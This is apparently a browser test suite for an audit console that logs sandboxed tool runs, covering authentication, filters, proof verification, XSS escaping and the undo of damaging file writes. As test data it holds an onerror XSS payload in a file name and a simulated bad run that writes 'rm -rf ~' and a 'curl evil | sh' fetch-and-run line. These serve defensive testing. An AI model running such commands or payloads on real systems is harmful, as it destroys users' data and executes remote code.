/**
 * The console page in a real browser (Debian's chromium through
 * playwright-core) over a real runtime's log: runs, a run's calls and chart,
 * filters, a proof download, the live tail. Screenshots are kept in
 * build/test-artifacts/console/ (ignored by git) for a person to look at.
 */
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import type { Page } from 'playwright-core';
import { verifyAuditProof } from '../src/audit/index.ts';
import { startConsole, type ConsoleServer } from '../src/console/index.ts';
import { launchChromium } from './helpers/chromium.ts';
import { jsFixture } from './helpers/js-fixtures.ts';
import { auditRecords, tempDir, testRuntime } from './helpers/runtime.ts';

export const ARTIFACTS = path.join(import.meta.dirname, '..', 'build', 'test-artifacts', 'console');

let rt: Awaited<ReturnType<typeof testRuntime>>;
let ws: { path: string; cleanup: () => void };
let grants: string[];
let server: ConsoleServer;
let chrome: Awaited<ReturnType<typeof launchChromium>>;
let page: Page;
/** The project a bad run damages, as it was before. */
const PROJECT: Record<string, Buffer> = {
  'main.py': Buffer.from('print("hello")\n'),
  'README.md': Buffer.from('# Project\n\nDo not lose this.\n'),
  'data.csv': Buffer.from('id,value\n1,42\n2,43\n'),
  'logo.bin': Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7) % 256)),
};

before(async () => {
  fs.mkdirSync(ARTIFACTS, { recursive: true });
  ws = tempDir('authority-console-browser-');
  fs.mkdirSync(path.join(ws.path, 'out'));
  fs.writeFileSync(path.join(ws.path, 'notes.txt'), 'notes');
  fs.mkdirSync(path.join(ws.path, 'project'));
  for (const [name, bytes] of Object.entries(PROJECT)) fs.writeFileSync(path.join(ws.path, 'project', name), bytes);
  rt = await testRuntime({
    audit: { durability: 'none' },
    policy: {
      version: '1.0',
      name: 'console-browser',
      fs: { read: [`${ws.path}/**`], write: [`${ws.path}/out/**`, `${ws.path}/project/**`] },
      tools: { allow: ['fs-probe'] },
      undo: { tools: ['fs-probe'] },
    },
  });
  await rt.register(await jsFixture('fs-probe'), { limits: { timeoutMs: 120_000 } });
  grants = [rt.issueToken({ kind: 'fs', resource: '/**', methods: ['read', 'list', 'write', 'remove'], ttlMs: 3_600_000 })];
  const out = (n: string): string => path.join(ws.path, 'out', n);
  await rt.invoke('fs-probe', { ops: [{ op: 'read', path: path.join(ws.path, 'notes.txt') }, { op: 'write', path: out('summary.txt'), data: 'summary' }, { op: 'list', path: path.join(ws.path, 'out') }] }, { grants, runId: 'run-summary' });
  await rt.invoke('fs-probe', { ops: [{ op: 'write', path: path.join(ws.path, 'notes.txt'), data: 'X' }, { op: 'read', path: '/etc/hostname' }, { op: 'stat', path: out('summary.txt') }] }, { grants, runId: 'run-pushy' });
  await rt.invoke('fs-probe', { ops: [{ op: 'read', path: out('missing.txt') }] }, { grants, runId: 'run-missing' });
  server = await startConsole({ dir: rt.dataDir, pollMs: 100, undo: { plan: (id) => rt.undoPlan(id), apply: (id, o) => rt.undoRun(id, o) } });
  chrome = await launchChromium();
  page = await chrome.context.newPage();
});

after(async () => {
  await chrome?.close();
  await server?.close();
  await rt?.cleanup();
  ws?.cleanup();
});

const rows = (): Promise<number> => page.locator('#runs tbody tr').count();

/** Poll the page until `ok` (the page's CSP forbids eval, so no string predicates run in it). */
async function until(ok: () => Promise<boolean>, what: string, ms = 30_000): Promise<void> {
  const end = Date.now() + ms;
  while (!(await ok())) {
    if (Date.now() > end) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 50));
  }
}

const shot = (name: string): Promise<Buffer> => page.screenshot({ path: path.join(ARTIFACTS, `${name}.png`), fullPage: true });

test('without the token the browser gets 401 and no page', async () => {
  const res = await page.goto(`http://127.0.0.1:${server.port}/`);
  assert.equal(res?.status(), 401);
  assert.match(await page.content(), /access token/);
});

test('the printed URL opens the page: runs newest first, chain status, tools, and the token leaves the address bar', async () => {
  await page.goto(server.url);
  await page.waitForSelector('body[data-ready="1"]');
  assert.equal(new URL(page.url()).search, '');
  const rows = page.locator('#runs tbody tr');
  assert.deepEqual(await rows.evaluateAll((trs) => trs.map((tr: { dataset: Record<string, string> }) => tr.dataset['run'])), ['run-missing', 'run-pushy', 'run-summary']);
  const pushy = page.locator('#runs tbody tr[data-run="run-pushy"] td');
  assert.equal(await pushy.nth(0).textContent(), 'fs-probe');
  assert.equal(await pushy.nth(5).textContent(), '2');
  assert.match((await page.locator('#chain-records').textContent()) ?? '', /^\d+/);
  assert.match((await page.locator('#tools .tool h3').first().textContent()) ?? '', /fs-probe/);
  assert.equal(await page.locator('#tools svg').count(), 2);
  await shot('01-runs');
});

test('clicking a run shows its host calls, their codes and record ids, and the timeline chart', async () => {
  await page.locator('#runs tbody tr[data-run="run-pushy"]').click();
  await page.waitForSelector('#run-panel:not([hidden]) #calls tbody tr');
  assert.equal(await page.locator('#run-id').textContent(), 'run-pushy');
  const calls = await page.locator('#calls tbody tr').evaluateAll((trs) => trs.map((tr: { querySelectorAll(s: string): Iterable<{ textContent: string | null }> }) => [...tr.querySelectorAll('td')].map((td) => td.textContent)));
  assert.deepEqual(calls.map((c) => [c[1], c[3], c[4]]), [
    ['fs.write', 'deny', 'E_POLICY_DENY'],
    ['fs.read', 'deny', 'E_POLICY_DENY'],
    ['fs.stat', 'allow', 'ok'],
  ]);
  assert.equal(calls[0]?.[2], path.join(ws.path, 'notes.txt'));
  assert.equal(await page.locator('#timeline-chart svg rect').count(), 3);
  assert.equal(await page.locator('#timeline-chart svg rect[fill="#c53030"]').count(), 2);
  await shot('02-run');
});

test('the code filter keeps only runs with a record of that code, and Clear brings them back', async () => {
  await page.selectOption('#f-code', 'not-found');
  await page.click('#filters button[type="submit"]');
  await until(async () => (await rows()) === 1, 'one run left');
  assert.equal(await page.locator('#runs tbody tr').getAttribute('data-run'), 'run-missing');
  await shot('03-filtered');
  await page.selectOption('#f-code', '');
  await page.fill('#f-from', '2999-01-01T00:00:00');
  await page.click('#filters button[type="submit"]');
  await until(async () => (await rows()) === 0, 'no run left');
  await page.click('#f-clear');
  await until(async () => (await rows()) === 3, 'every run back');
});

test("a record's proof downloads from the run view and verifies against the pinned key", async () => {
  // The writer anchors records under a checkpoint within a second.
  await page.click('#verify');
  await until(async () => /verified/.test((await page.locator('#chain-verified').textContent()) ?? ''), 'the chain verified');
  assert.match((await page.locator('#chain-verified').getAttribute('class')) ?? '', /\bok\b/);
  await page.locator('#runs tbody tr[data-run="run-summary"]').click();
  await until(async () => (await page.locator('#run-id').textContent()) === 'run-summary', 'run-summary shown');
  const link = page.locator('#calls tbody tr').nth(1).locator('a.rec').last();
  const seq = Number(((await link.textContent()) ?? '').slice(1));
  for (let i = 0; i < 100; i++) {
    const res = await fetch(`http://127.0.0.1:${server.port}/api/status`, { headers: { authorization: `Bearer ${server.token}` } });
    if ((((await res.json()) as { checkpoint: { size: number } | null }).checkpoint?.size ?? 0) > seq) break;
    await new Promise((r) => setTimeout(r, 50));
  }
  const [download] = await Promise.all([page.waitForEvent('download'), link.click()]);
  assert.equal(download.suggestedFilename(), `record-${seq}.proof.json`);
  const file = path.join(ARTIFACTS, download.suggestedFilename());
  await download.saveAs(file);
  const proof = JSON.parse(fs.readFileSync(file, 'utf8')) as { seq: number; record: string };
  assert.equal(proof.seq, seq);
  assert.match(proof.record, /"op":"fs.write"/);
  const pinned = fs.readFileSync(path.join(rt.dataDir, 'checkpoints', 'audit-signing-key.pub.pem'), 'utf8');
  assert.equal(verifyAuditProof(proof as never, { publicKey: pinned }).ok, true);
  await shot('04-proof');
});

test('the live tail shows a new run as it happens, and the runs list picks it up', async () => {
  await rt.invoke('fs-probe', { ops: [{ op: 'read', path: path.join(ws.path, 'notes.txt') }] }, { grants, runId: 'run-live' });
  await until(async () => (await page.locator('#tail li', { hasText: 'invoke.end' }).count()) > 0, 'the tail shows invoke.end');
  await page.waitForSelector('#runs tbody tr[data-run="run-live"]');
  assert.equal(await page.locator('#tail-dot.on').count(), 1);
  await shot('05-live');
});

test('a path a tool chose is shown as text: markup in it never runs in the page', async () => {
  const evil = path.join(ws.path, 'out', '<img src=x onerror="document.title=\'pwned\'">.txt');
  await rt.invoke('fs-probe', { ops: [{ op: 'write', path: evil, data: 'x' }] }, { grants, runId: 'run-markup' });
  let dialogs = 0;
  page.on('dialog', (d) => {
    dialogs++;
    void d.dismiss();
  });
  await page.goto(server.url);
  await page.waitForSelector('body[data-ready="1"]');
  await page.locator('#runs tbody tr[data-run="run-markup"]').click();
  await until(async () => (await page.locator('#run-id').textContent()) === 'run-markup', 'the run shown');
  assert.equal(await page.locator('#calls tbody td.target').first().textContent(), evil);
  assert.equal(await page.locator('#calls img, #tail img').count(), 0);
  assert.equal(await page.title(), 'Authority console');
  assert.equal(dialogs, 0);
});

/** Every file of the project folder, name to bytes. */
function projectFiles(): Record<string, string> {
  const dir = path.join(ws.path, 'project');
  return Object.fromEntries(fs.readdirSync(dir).filter((n) => !n.endsWith('.tmp')).sort().map((n) => [n, fs.readFileSync(path.join(dir, n)).toString('base64')]));
}

test('a bad run that overwrote and deleted files is found in the console and undone from it: files byte-identical, the undo in the log, the chain verified', async () => {
  const before = projectFiles();
  const f = (n: string): string => path.join(ws.path, 'project', n);
  await rt.invoke(
    'fs-probe',
    {
      ops: [
        { op: 'write', path: f('main.py'), data: 'import os; os.system("rm -rf ~")' },
        { op: 'write', path: f('README.md'), data: '' },
        { op: 'remove', path: f('data.csv') },
        { op: 'write', path: f('logo.bin'), data: 'not a logo' },
        { op: 'write', path: f('payload.sh'), data: 'curl evil | sh' },
        { op: 'write', path: f('main.py'), data: 'print("pwned")' },
      ],
    },
    { grants, runId: 'run-bad' },
  );
  // Someone edits a damaged file by hand before the undo: the console must show it as a conflict first.
  fs.writeFileSync(f('README.md'), '# Project\n\nhalf repaired by hand\n');
  assert.notDeepEqual(projectFiles(), before);

  await page.goto(server.url);
  await page.waitForSelector('body[data-ready="1"]');
  await page.selectOption('#f-tool', 'fs-probe');
  await page.click('#filters button[type="submit"]');
  await until(async () => (await page.locator('#runs tbody tr[data-run="run-bad"]').count()) === 1, 'the bad run listed');
  await page.locator('#runs tbody tr[data-run="run-bad"]').click();
  await until(async () => (await page.locator('#run-id').textContent()) === 'run-bad', 'the bad run shown');
  const ops = await page.locator('#calls tbody tr td:nth-child(2)').allTextContents();
  assert.deepEqual(ops, ['fs.write', 'fs.write', 'fs.remove', 'fs.write', 'fs.write', 'fs.write']);
  assert.equal(await page.locator('#undo-box').isVisible(), true);

  await page.click('#undo-plan');
  await page.waitForSelector('#undo-view p');
  const view = await page.locator('#undo-view').innerText();
  // Conflicts first, then the rest.
  assert.ok(view.indexOf('1 conflict') >= 0 && view.indexOf('1 conflict') < view.indexOf('to restore'), view);
  assert.match(view, /README\.md/);
  await shot('06-undo-plan');

  // Leave the conflict alone first: everything else comes back, the hand edit stays.
  await page.click('#undo-confirm');
  await page.waitForSelector('#undo-result');
  assert.match((await page.locator('#undo-result').textContent()) ?? '', /restored 5, conflicts 1/);
  assert.equal(fs.readFileSync(f('README.md'), 'utf8'), '# Project\n\nhalf repaired by hand\n');
  assert.deepEqual(fs.readFileSync(f('logo.bin')), PROJECT['logo.bin']);
  assert.equal(fs.existsSync(f('payload.sh')), false);

  // Then decide: overwrite the hand edit too.
  await page.click('#undo-plan');
  await page.waitForSelector('#undo-force');
  await page.click('#undo-force');
  await page.waitForSelector('#undo-result');
  assert.match((await page.locator('#undo-result').textContent()) ?? '', /restored 1, conflicts 0/);
  assert.deepEqual(projectFiles(), before);

  // The undo is in the log (under the run), and the chain verifies.
  await page.locator('#runs tbody tr[data-run="run-bad"]').click();
  await until(async () => (await page.locator('#undo-records li').count()) > 0, 'the undo history shown');
  const history = await page.locator('#undo-records li').allTextContents();
  assert.equal(history.filter((t) => t.includes('undo.restore')).length, 6);
  assert.equal(history.filter((t) => t.includes('undo.conflict')).length, 1);
  assert.equal(history.filter((t) => t.includes('undo.end')).length, 2);
  await page.click('#verify');
  await until(async () => /\bok\b/.test((await page.locator('#chain-verified').getAttribute('class')) ?? ''), 'the chain verified');
  await shot('07-undone');
  const records = await auditRecords(rt.dataDir, (r) => r.runId === 'run-bad' && r.kind.startsWith('undo.'));
  // Newest change first: README.md's (the conflict) is the second oldest.
  assert.deepEqual(records.map((r) => r.kind), ['undo.start', ...Array(4).fill('undo.restore'), 'undo.conflict', 'undo.restore', 'undo.end', 'undo.start', 'undo.restore', 'undo.end']);
});
